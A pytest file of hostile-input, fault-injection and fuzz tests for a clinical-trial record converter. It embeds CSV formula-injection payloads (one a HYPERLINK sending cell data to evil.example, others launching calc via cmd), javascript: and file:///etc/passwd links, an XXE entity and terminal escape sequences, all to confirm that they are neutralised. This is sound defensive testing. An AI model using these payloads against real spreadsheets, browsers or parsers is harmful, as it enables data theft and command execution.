"""Hostile input and an unlucky operator, one test per finding of issue 15, plus property-based tests
over every reader (nothing but ConversionError escapes; whatever is written validates)."""

from __future__ import annotations

import copy
import csv
import gc
import io
import json
import os
import signal
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from converter import ConversionError, api, convert, iter_convert, read
from converter.cli import app
from converter.output import LockedError, OutputLock, WriteFailure, commit_files, temp_path
from converter.pool import supervised
from converter.readers import detect, read_source, readers
from converter.readers.sources import MAX_ARCHIVE_MEMBER_RATIO
from converter.safety import for_terminal, is_safe_link, neutralise_cell

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data"
V2 = DATA / "ctgov" / "v2" / "NCT02513394.json"
sys.path.insert(0, str(ROOT / "benchmarks"))
from bench_crafted import crafted, long_criterion, nested_items  # noqa: E402

runner = CliRunner()


def _study() -> dict:
    return json.loads(V2.read_bytes())


def _bytes(study: dict) -> bytes:
    return json.dumps(study).encode("utf-8")


# ---------------------------------------------------------------------------------------------- item 1


def test_1_a_dead_worker_costs_only_its_record() -> None:
    def work(n: int) -> int:
        if n == 2:
            os.kill(os.getpid(), signal.SIGKILL)
        return n * 10

    results = list(supervised(range(5), work, jobs=2, timeout=None, memory_mb=None,
                              failed=lambda item, error: error, passed=lambda error: error))
    assert results[:2] == [0, 10] and results[3:] == [30, 40]
    assert isinstance(results[2], ConversionError) and results[2].stage == "convert" and "SIGKILL" in str(results[2])


def test_1_a_stuck_record_is_stopped_by_the_time_limit() -> None:
    started = time.monotonic()
    results = list(supervised([1, 2, 3], lambda n: time.sleep(30) if n == 2 else n, jobs=1, timeout=1.5, memory_mb=None,
                              failed=lambda item, error: error, passed=lambda error: error))
    assert time.monotonic() - started < 20
    assert results[0] == 1 and results[2] == 3 and "time limit" in str(results[1])


# ---------------------------------------------------------------------------------------------- item 2


def test_2_a_failing_write_keeps_none_of_the_records_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "old.json").write_bytes(b"old")
    real, calls = os.write, []

    def write(fd, data):
        calls.append(fd)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real(fd, data)

    monkeypatch.setattr("converter.output.os.write", write)
    with pytest.raises(WriteFailure) as failure:
        commit_files(tmp_path, {"old.json": b"new", "a/b.json": b"b", "c.json": b"c", "d.json": b"d"})
    assert failure.value.path == tmp_path / "c.json" and "free space" in failure.value.advice()
    assert (tmp_path / "old.json").read_bytes() == b"old"  # nothing of the record was placed
    assert sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file()) == ["old.json"]


@pytest.mark.parametrize("umask,mode", [(0o027, 0o640), (0o022, 0o644), (0o077, 0o600)])
def test_2_files_take_the_process_umask(tmp_path: Path, umask: int, mode: int) -> None:
    old = os.umask(umask)
    try:
        [path] = commit_files(tmp_path, {"x.json": b"{}"})
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == mode


# ---------------------------------------------------------------------------------------------- item 3


def test_3_a_second_run_on_a_held_out_folder_is_refused(tmp_path: Path) -> None:
    with OutputLock(tmp_path):
        with pytest.raises(LockedError, match="another trialconv run"):
            OutputLock(tmp_path).acquire()
        result = runner.invoke(app, ["convert", str(V2), "--out", str(tmp_path), "--quiet"])
        assert result.exit_code == 2 and "another trialconv run" in result.output and result.exception.__class__ is SystemExit
    assert temp_path(tmp_path / "r.ndjson") != temp_path(tmp_path / "r.ndjson")  # temp names never shared


# ---------------------------------------------------------------------------------------------- item 4

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_4_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    study = _study()
    ps = study["protocolSection"]
    ps["identificationModule"]["officialTitle"] = PAYLOADS[0]
    ps["identificationModule"]["acronym"] = PAYLOADS[1]
    ps["armsInterventionsModule"]["armGroups"][0]["label"] = PAYLOADS[2]
    ps["eligibilityModule"]["eligibilityCriteria"] = f"Inclusion Criteria:\n\n* {PAYLOADS[3]}\n\nExclusion Criteria:\n\n* Pregnancy\n"
    [result] = list(iter_convert(_bytes(study), "cdisc"))
    assert result.ok, result.error
    files = result.outputs["cdisc"].files
    cells = [cell for name, data in files.items() if name.endswith(".csv") for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert cells and not [cell for cell in cells if neutralise_cell(cell) != cell]
    for payload in PAYLOADS:  # each payload reached a CSV, neutralised, and Dataset-JSON keeps it as it was
        assert any(cell.startswith("'") and payload in cell for cell in cells), payload
        as_json = json.dumps(payload, ensure_ascii=False)[1:-1]
        assert any(as_json in data.decode() for name, data in files.items() if name.endswith(".json")), payload
    assert neutralise_cell("-5") == "-5" and neutralise_cell(3) == 3 and neutralise_cell("\tx") == "'\tx"


# ---------------------------------------------------------------------------------------------- item 5

BAD_LINKS = ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)",
             "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x", "http:evil"]


def test_5_only_http_https_ftp_urn_links_are_written() -> None:
    study = json.loads((DATA / "ctgov" / "v2" / "NCT06823401.json").read_bytes())  # a small record
    ps = study["protocolSection"]
    ps.setdefault("referencesModule", {})["seeAlsoLinks"] = [{"label": f"link {n}", "url": url} for n, url in enumerate(BAD_LINKS)]
    ps["referencesModule"]["seeAlsoLinks"].append({"label": "good", "url": "https://example.org/trial"})
    ps["identificationModule"].setdefault("orgStudyIdInfo", {"id": "ORG-1"})["link"] = "javascript:alert(2)"
    ps["ipdSharingStatementModule"] = {"ipdSharing": "YES", "url": "data:text/html,<b>x</b>"}
    [trial] = list(read(_bytes(study)))
    assert [link.url for link in trial.links] == ["https://example.org/trial"]
    assert sum("dropped" in warning for warning in trial.provenance.warnings) == len(BAD_LINKS) + 2
    for target in ("fhir-r5", "fhir-r4b"):
        text = json.dumps(convert(trial, target))  # convert() returns only a Bundle that passed validation
        assert "https://example.org/trial" in text
        assert not any(bad in text for bad in ("javascript:", "data:text", "vbscript:", "file:", "evil.example"))
    # the model itself refuses such a link, so trial-json input and library-built trials cannot carry one
    document = trial.to_json()
    document["links"] = [{"url": "javascript:alert(1)"}]
    with pytest.raises(ConversionError, match="links"):
        list(read(json.dumps(document).encode(), fmt="trial-json"))
    assert is_safe_link("urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427") and is_safe_link("ftp://ftp.example.org/a")


# ---------------------------------------------------------------------------------------------- item 6


def test_6_links_leaving_an_input_folder_are_skipped(tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    study = _study()
    study["protocolSection"]["identificationModule"]["briefTitle"] = "TOP SECRET TITLE"
    secret.write_bytes(_bytes(study))
    folder = tmp_path / "uploads"
    folder.mkdir()
    (folder / "a-link.json").symlink_to(secret)
    (folder / "real.json").write_bytes(V2.read_bytes().replace(b"NCT02513394", b"NCT02513395"))
    (folder / "inside-link.json").symlink_to(folder / "real.json")
    (folder / "dir-link").symlink_to(tmp_path)
    out = tmp_path / "out"
    result = runner.invoke(app, ["convert", str(folder), "--to", "synopsis", "--out", str(out), "--quiet"])
    assert "SKIPPED" in result.output and "a-link.json" in result.output and "TOP SECRET" not in result.output
    assert not any("TOP SECRET" in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
    report = [json.loads(line) for line in (out / "trialconv-report.ndjson").read_text().splitlines()]
    assert [line["status"] for line in report if "a-link" in (line["id"] or "")] == ["skipped"]
    # a link inside the folder is read (once as a duplicate of real.json, so refused, not overwritten)
    assert sorted(line["status"] for line in report) == ["converted", "failed", "skipped", "skipped"]  # dir-link too
    with pytest.warns(UserWarning, match="outside the input folder"):
        assert [t.id for t in read(folder)] == ["NCT02513395", "NCT02513395"]
    assert [t.id for t in read_source(folder, follow_symlinks=True)][0] == "NCT02513394"


# ---------------------------------------------------------------------------------------------- item 7


def test_7_duplicate_and_case_colliding_ids_are_reported_not_overwritten(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    first = _study()
    first["protocolSection"]["identificationModule"]["briefTitle"] = "First copy"
    second = copy.deepcopy(first)
    second["protocolSection"]["identificationModule"]["briefTitle"] = "Second copy"
    lower = copy.deepcopy(first)
    lower["protocolSection"]["identificationModule"]["nctId"] = "nct02513394"
    for name, study in (("a.json", first), ("b.json", second), ("c.json", lower)):
        (folder / name).write_bytes(_bytes(study))
    out = tmp_path / "out"
    result = runner.invoke(app, ["convert", str(folder), "--to", "synopsis", "--out", str(out), "--quiet"])
    assert result.exit_code == 1
    report = [json.loads(line) for line in (out / "trialconv-report.ndjson").read_text().splitlines()]
    assert [line["status"] for line in report] == ["converted", "failed", "failed"]
    assert "duplicate record id" in report[1]["error"] and "letter case" in report[2]["error"]
    assert "First copy" in (out / "NCT02513394" / "synopsis.md").read_text()
    assert not (out / "nct02513394").exists() or (out / "nct02513394").samefile(out / "NCT02513394")


@pytest.mark.parametrize("bad", ["NCT0251\x003394", "NCT02513394\x1b[2J", "NCT0251\u202e3394", "NCT0251\u200b3394"])
def test_7_control_bidi_and_zero_width_characters_in_ids_are_refused(bad: str) -> None:
    study = _study()
    study["protocolSection"]["identificationModule"]["nctId"] = bad
    errors: list[ConversionError] = []
    assert list(read_source(_bytes(study), on_error=errors.append)) == []
    [error] = errors
    assert error.field == "protocolSection.identificationModule.nctId" and "refused" in str(error)
    assert not any(ch in str(error) for ch in "\x00\x1b\u202e\u200b")


# ---------------------------------------------------------------------------------------------- item 8


_SALT = iter(range(1, 1_000_000))


def _eligibility_cpu(shape, size: int) -> float:
    """CPU seconds to parse and read a fresh crafted text (salted: the reading caches per criterion)."""
    from converter.eligibility.criteria import parse_criteria
    from converter.eligibility.reading import read_criteria, read_criterion

    text = shape(size, next(_SALT))
    read_criterion.cache_clear()
    gc.collect()
    gc.disable()
    try:
        started = time.process_time()
        read_criteria(parse_criteria(text))
        return time.process_time() - started
    finally:
        gc.enable()


@pytest.mark.parametrize("shape,size", [(long_criterion, 10_000), (nested_items, 180)])
def test_8_crafted_criteria_grow_linearly(shape, size: int) -> None:
    """Doubling the crafted text at most doubles the work: the CPU-time ratio of a run on twice the
    text to a run on the text, the median of three interleaved pairs (so a busy moment on the shared
    machine skews one pair, not the verdict), with a margin — no absolute timing. Quadratic reading
    gives 4."""
    _eligibility_cpu(shape, size // 10)
    ratios = sorted(_eligibility_cpu(shape, 2 * size) / _eligibility_cpu(shape, size) for _ in range(3))
    assert ratios[1] < 2.6, ratios


def test_8_crafted_criteria_are_bounded_by_the_record_time_limit(tmp_path: Path) -> None:
    (tmp_path / "a-crafted.json").write_bytes(crafted(nested_items(6_000, next(_SALT))))
    (tmp_path / "b-fine.json").write_bytes((DATA / "ctgov" / "v2" / "NCT00687206.json").read_bytes())
    started = time.monotonic()
    results = list(iter_convert(tmp_path, "fhir-r5", record_timeout=1.5))
    assert time.monotonic() - started < 30
    assert [r.ok for r in results] == [False, True]
    assert results[0].error.stage == "convert" and "time limit" in str(results[0].error)


# ---------------------------------------------------------------------------------------------- item 9


def test_9_terminal_output_carries_no_escape_sequences(tmp_path: Path) -> None:
    name = tmp_path / "evil\x1b]0;pwned\x07\u202etxt.json"
    name.write_bytes(b"\x00 not a record")
    result = runner.invoke(app, ["convert", str(name), "--out", str(tmp_path / "out"), "--quiet"])
    assert result.exit_code == 1 and "FAILED" in result.output
    assert "\x1b" not in result.output and "\u202e" not in result.output and "\\u202e" in result.output
    assert for_terminal("a\x1b[31mb\u200bc\u2066") == "a\\u001b[31mb\\u200bc\\u2066"


def test_9_explain_fails_when_no_input_could_be_read(tmp_path: Path) -> None:
    junk = tmp_path / "junk.txt"
    junk.write_bytes(b"\x01\x02 nothing")
    result = runner.invoke(app, ["explain", str(junk), str(tmp_path / "missing.json")])
    assert result.exit_code == 1 and result.output.count("FAILED") == 2
    assert runner.invoke(app, ["explain", str(V2), str(junk)]).exit_code == 0


def test_9_validate_on_very_deep_json_is_a_clear_error(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    result = runner.invoke(app, ["validate", str(deep)])
    assert result.exit_code == 1 and "nested too deeply" in result.output
    assert not isinstance(result.exception, RecursionError)
    assert api.validate(deep) == [api.NESTED_TOO_DEEPLY]


def test_9_zip_bombs_and_junk_members_are_refused_before_inflating(tmp_path: Path) -> None:
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb.json", b"\x00" * (64 << 20))
        zf.writestr("noise.txt", os.urandom(3 << 20).hex().encode())
        zf.writestr("NCT02513394.json", V2.read_bytes())
    info = zipfile.ZipFile(archive).getinfo("bomb.json")
    assert info.file_size > MAX_ARCHIVE_MEMBER_RATIO * info.compress_size
    errors: list[ConversionError] = []
    started = time.process_time()
    trials = list(read_source(archive, on_error=errors.append))
    assert time.process_time() - started < 5
    assert [t.id for t in trials] == ["NCT02513394"]
    bomb, noise = sorted(errors, key=lambda e: e.record)
    assert "bomb.json" in bomb.record and "not inflated" in bomb.message
    assert "noise.txt" in noise.record and noise.stage == "detect" and "not inflated further" in noise.message


@pytest.mark.parametrize("call", [
    lambda: list(read(None)), lambda: list(read(42)), lambda: list(read(V2, fmt="nope")),
    lambda: convert(V2, to=None), lambda: convert(V2, to="pdf"), lambda: convert(V2, colour="red"),
    lambda: convert(V2, bundle_type="batch"), lambda: convert(None), lambda: convert(V2, cdisc_formats="csv"),
    lambda: list(iter_convert(3.5)), lambda: list(iter_convert(V2, to=["fhir-r5", 7])), lambda: list(iter_convert(V2, jobs=0)),
    lambda: list(iter_convert(V2, record_timeout=-1)), lambda: list(iter_convert(V2, unknown=True)),
    lambda: api.validate(None), lambda: api.validate({}, version="R2"), lambda: list(read([V2, None])),
])
def test_library_bad_arguments_raise_conversion_error_naming_the_field(call) -> None:
    with pytest.raises(ConversionError) as raised:
        call()
    assert raised.value.field or raised.value.record


# ------------------------------------------------------------------------------------ property-based

def _seeds() -> dict[str, bytes]:
    """One real input per reader (from the samples and test data), found by content detection."""
    found: dict[str, bytes] = {}
    candidates = sorted((ROOT / "samples").glob("*")) + sorted((DATA / "ctgov").rglob("*.*")) + sorted((DATA / "rendered").rglob("*.*"))
    for path in candidates:
        if path.is_file():
            data = path.read_bytes()
            reader = detect(data[:65536])
            if reader is not None and reader.name not in found:
                found[reader.name] = data
    [trial] = list(read(V2))
    found["trial-json"] = json.dumps(trial.to_json()).encode()
    found.setdefault("page-generic", b"Example Registry - Study record\nA Study of Drug X in Adults With Asthma\n"
                     b"Public title: A Study of Drug X in Adults With Asthma\nPrimary ID: ISRCTN12345678\nRecruitment status: Recruiting\n"
                     b"Sponsor: Example University\nInclusion criteria\n1. Adults aged 18 years or older\n2. Diagnosed asthma\n"
                     b"Exclusion criteria\n1. Pregnancy\n")
    return found


SEEDS = _seeds()


def test_every_reader_has_a_seed() -> None:
    assert set(SEEDS) == set(readers()), set(readers()) - set(SEEDS)


@st.composite
def mutated(draw, seed: bytes) -> bytes:
    """A real input with a few bytes changed, a slice cut out or repeated, or a hostile snippet spliced in."""
    data = bytearray(seed[:20_000])
    for _ in range(draw(st.integers(1, 4))):
        choice = draw(st.integers(0, 3))
        at = draw(st.integers(0, max(0, len(data) - 1)))
        if choice == 0 and data:
            data[at] = draw(st.integers(0, 255))
        elif choice == 1:
            del data[at: at + draw(st.integers(1, 500))]
        elif choice == 2:
            data[at:at] = data[at: at + draw(st.integers(1, 200))] * draw(st.integers(1, 20))
        else:
            data[at:at] = draw(st.sampled_from([b"\x00", b"\x1b[2J", "\u202e".encode(), b"javascript:alert(1)", b"=cmd|'/C calc'!A0",
                                                b"\xff\xfe", b"[[[[[[[[", b'{"a":', b"<!ENTITY x SYSTEM 'file:///etc/passwd'>", b"\r\n\t"]))
    return bytes(data)


READING = settings(max_examples=50, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)


@pytest.mark.parametrize("reader", sorted(SEEDS))
@READING
@given(data=st.data())
def test_property_readers_let_only_conversion_errors_escape(reader: str, data) -> None:
    blob = data.draw(st.one_of(mutated(SEEDS[reader]), st.binary(max_size=2000)))
    errors: list[ConversionError] = []
    for forced in (reader, None):
        for trial in read_source(blob, forced, on_error=errors.append):
            assert trial.id
        assert all(isinstance(error, ConversionError) for error in errors)


@pytest.mark.parametrize("reader", ["ctgov-v2", "ctgov-xml", "page-ctgov-classic"])
@settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(data=st.data())
def test_property_whatever_is_converted_validates(reader: str, data) -> None:
    blob = data.draw(mutated(SEEDS[reader]))
    for result in iter_convert(blob, ["fhir-r5", "cdisc"], fmt=reader):
        if result.ok:
            assert api.validate(result.outputs["fhir-r5"].value, "R5") == []
        else:
            assert isinstance(result.error, ConversionError)
